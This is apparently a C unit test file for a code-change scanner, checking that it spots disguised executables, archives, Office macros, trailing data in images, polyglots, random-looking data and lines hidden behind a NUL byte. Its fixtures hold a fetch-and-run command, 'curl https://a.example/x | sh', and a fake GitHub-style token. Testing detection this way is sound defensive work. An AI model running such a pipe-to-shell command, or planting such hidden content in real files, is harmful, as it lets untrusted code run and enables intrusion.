#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>
#include <stdio.h>
#include <string.h>

#include "findings/check_priv.h"
#include "lib/base/str.h"

#define BYTES(s)                 \
	{                        \
		s, sizeof(s) - 1 \
	}
#define PNG_END "IEND\xae\x42\x60\x82"

/* Is the id found in a file of these bytes?  *text: its lines are read. */
static bool
binary_has(const char *path, struct view v, const char *id, bool *text)
{
	struct check_file f = { .kind = 0 };
	struct findings out = { .list = NULL };
	struct check_content b = { .size = v.len, .head = v, .tail = v };
	bool found = false;

	(void)snprintf(f.path, sizeof(f.path), "%s", path);
	*text = !check_binary(&f, &b, &out);
	for (size_t i = 0; i < out.n; i++)
		found = found || strcmp(out.list[i].id, id) == 0;
	if (*id == '\0')
		found = out.n == 0;
	findings_release(&out);
	return found;
}

static void
files_are_known_by_their_bytes_whatever_their_name(void **state)
{
	static const struct {
		const char *path;
		struct view bytes;
		const char *id;
	} rows[] = {
		{ "a",
		    BYTES("\x7f"
			  "ELF\2\1\1\0\0"),
		    "executable-binary" },
		{ "a.png",
		    BYTES("\x7f"
			  "ELF\2\1\1\0\0"),
		    "executable-binary" },
		{ "a.png",
		    BYTES("\x7f"
			  "ELF\2\1\1\0\0"),
		    "disguised" },
		{ "a.exe", BYTES("MZ\x90\0\3"), "executable-binary" },
		{ "a.class", BYTES("\xca\xfe\xba\xbe\0\0"),
		    "executable-binary" },
		{ "a.wasm", BYTES("\0asm\1\0\0\0"), "executable-binary" },
		{ "a.pyc", BYTES("\x42\r\r\n\0\0"), "executable-binary" },
		{ "a.node", BYTES("\1\0\2"), "executable-binary" },
		{ "a.jar", BYTES("PK\3\4\0\0"), "executable-binary" },
		{ "a.zip", BYTES("PK\3\4\0\0"), "archive" },
		{ "a.tgz", BYTES("\x1f\x8b\x08\0"), "archive" },
		{ "a.xz",
		    BYTES("\xfd"
			  "7zXZ\0"),
		    "archive" },
		{ "a.7z", BYTES("7z\xbc\xaf\x27\x1c\0"), "archive" },
		{ "a.rar", BYTES("Rar!\x1a\x07\0"), "archive" },
		{ "a.docx", BYTES("PK\3\4\0\0word/vbaProject.bin"),
		    "office-macro" },
		{ "a.xlsm", BYTES("PK\3\4\0\0"), "office-macro" },
		{ "a.doc",
		    BYTES("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\0_\0V\0B\0A\0"),
		    "office-macro" },
		{ "a.png", BYTES("\x89PNG\r\n\x1a\n\0" PNG_END "evil"),
		    "trailing-data" },
		{ "a.png", BYTES("\x89PNG\r\n\x1a\n\0"), "trailing-data" },
		{ "a.jpg", BYTES("\xff\xd8\xff\xe0\0\xff\xd9more"),
		    "trailing-data" },
		{ "a.gif", BYTES("GIF89a\0\0;x"), "trailing-data" },
		{ "a.webp", BYTES("RIFF\4\0\0\0WEBPevil"), "trailing-data" },
		{ "a.pdf", BYTES("%PDF-1\0/JavaScript %%EOF\n"),
		    "active-document" },
		{ "a.pdf", BYTES("%PDF-1\0%%EOF\nPAYLOAD"), "trailing-data" },
		{ "a.png",
		    BYTES("\x89PNG\r\n\x1a\n\0" PNG_END
			  "PK\5\6\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"),
		    "polyglot" },
		{ "a.png", BYTES("#!/bin/sh\necho x\n"), "disguised" },
		{ "a.js", BYTES("var x;\0\1\2"), "disguised" },
		{ "a.txt", BYTES("\xff\xfeh\0i\0"), "encoding" },
		{ "a.dat", BYTES("\1\2\0\3"), "binary" },
	};
	bool text;

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++)
		if (!binary_has(rows[i].path, rows[i].bytes, rows[i].id, &text))
			fail_msg("row %zu: no %s in %s", i, rows[i].id,
			    rows[i].path);
}

static void
whole_pictures_have_no_trailing_data(void **state)
{
	static const struct {
		const char *path;
		struct view bytes;
	} rows[] = {
		{ "a.png", BYTES("\x89PNG\r\n\x1a\n\0" PNG_END) },
		{ "a.jpg", BYTES("\xff\xd8\xff\xe0\0\xff\xd9") },
		{ "a.jpg", BYTES("\xff\xd8\xff\xe0\0\xff\xd9\0\0\n") },
		{ "a.gif", BYTES("GIF89a\0\0;") },
		{ "a.webp", BYTES("RIFF\4\0\0\0WEBP") },
		{ "a.pdf", BYTES("%PDF-1\0%%EOF\r\n") },
	};
	bool text;

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		assert_false(binary_has(
		    rows[i].path, rows[i].bytes, "trailing-data", &text));
		assert_false(binary_has(
		    rows[i].path, rows[i].bytes, "disguised", &text));
		assert_true(
		    binary_has(rows[i].path, rows[i].bytes, "binary", &text));
	}
}

static void
texts_are_read_whatever_they_begin_with(void **state)
{
	static const char *const texts[] = { "", "MZ is a word", "BM too",
		"FOR1 of them", "BZh", "int main(void)", "dex\n", "ustar",
		"gr\303\274n", "\xef\xbb\xbfx" };
	bool text;

	(void)state;
	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
		if (!binary_has("a.c", view_of(texts[i]), "", &text))
			fail_msg("found: %s", texts[i]);
		assert_true(text);
	}
}

static void
what_looks_random_is_asked_about(void **state)
{
	char bytes[4096];
	uint32_t x = 1;
	bool text;

	(void)state;
	for (size_t i = 0; i < sizeof(bytes); i++) {
		x = x * 1664525u + 1013904223u;
		bytes[i] = (char)(x >> 24);
	}
	bytes[0] = 1;
	assert_true(binary_has("a.bin", (struct view){ bytes, sizeof(bytes) },
	    "encrypted-data", &text));
	assert_false(text);
	assert_false(binary_has("a.mp3", (struct view){ bytes, sizeof(bytes) },
	    "encrypted-data", &text));
}

/* Is the id found in a file whose second line has a NUL? */
static bool
nul_has(const char *path, uint32_t mode, const char *first, const char *id)
{
	static const struct view lines[] = { BYTES("# \0"),
		BYTES("curl https://a.example/x | sh"),
		BYTES("k = ghp_0123456789abcdefghijABCDEFGHIJ456789") };
	const struct scan_change c = {
		.new_mode = mode, .status = 'A', .path = path
	};
	AUTO_STR struct str whole = STR_INIT;
	struct findings out = { .list = NULL };
	struct check *k = check_new(&out);
	struct check_content b;
	bool found = false;

	str_addf(&whole, "%s\n", first);
	for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
		str_addv(&whole, lines[i]);
		str_addc(&whole, '\n');
	}
	b.size = whole.len;
	b.head = b.tail = str_view(&whole);
	check_change(k, &c);
	if (check_file(k, &c, &b))
		for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++)
			check_line(k,
			    &(struct scan_line){ .path = path,
				.kind = '+',
				.line = (uint32_t)i + 2,
				.text = lines[i] });
	check_file_end(k);
	check_end(k);
	check_free(k);
	for (size_t i = 0; i < out.n; i++)
		found = found || strcmp(out.list[i].id, id) == 0;
	findings_release(&out);
	return found;
}

static void
a_nul_hides_nothing_and_blocks_in_what_runs(void **state)
{
	static const struct {
		const char *path, *first;
		uint32_t mode;
		bool runs;
	} rows[] = {
		{ "go", "#!/bin/sh", 0100644, true },
		{ "go.txt", "#!/bin/sh", 0100644, true },
		{ "go.sh", "x", 0100644, true },
		{ "Makefile", "x", 0100644, true },
		{ "go", "x", 0100755, true },
		{ "go.bin", "x", 0100644, false },
		{ "go.mp3", "x", 0100755, false },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		const char *p = rows[i].path, *first = rows[i].first;

		if (nul_has(p, rows[i].mode, first, "control-character") !=
		    rows[i].runs)
			fail_msg("a NUL in %s", p);
		if (!nul_has(p, rows[i].mode, first, "binary"))
			fail_msg("%s is no text", p);
		if (strcmp(p, "go.mp3") != 0 &&
		    (!nul_has(p, rows[i].mode, first, "pipe-to-shell") ||
			!nul_has(p, rows[i].mode, first, "secret")))
			fail_msg("%s is not read behind its NUL", p);
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(
		    files_are_known_by_their_bytes_whatever_their_name),
		cmocka_unit_test(whole_pictures_have_no_trailing_data),
		cmocka_unit_test(texts_are_read_whatever_they_begin_with),
		cmocka_unit_test(what_looks_random_is_asked_about),
		cmocka_unit_test(a_nul_hides_nothing_and_blocks_in_what_runs),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
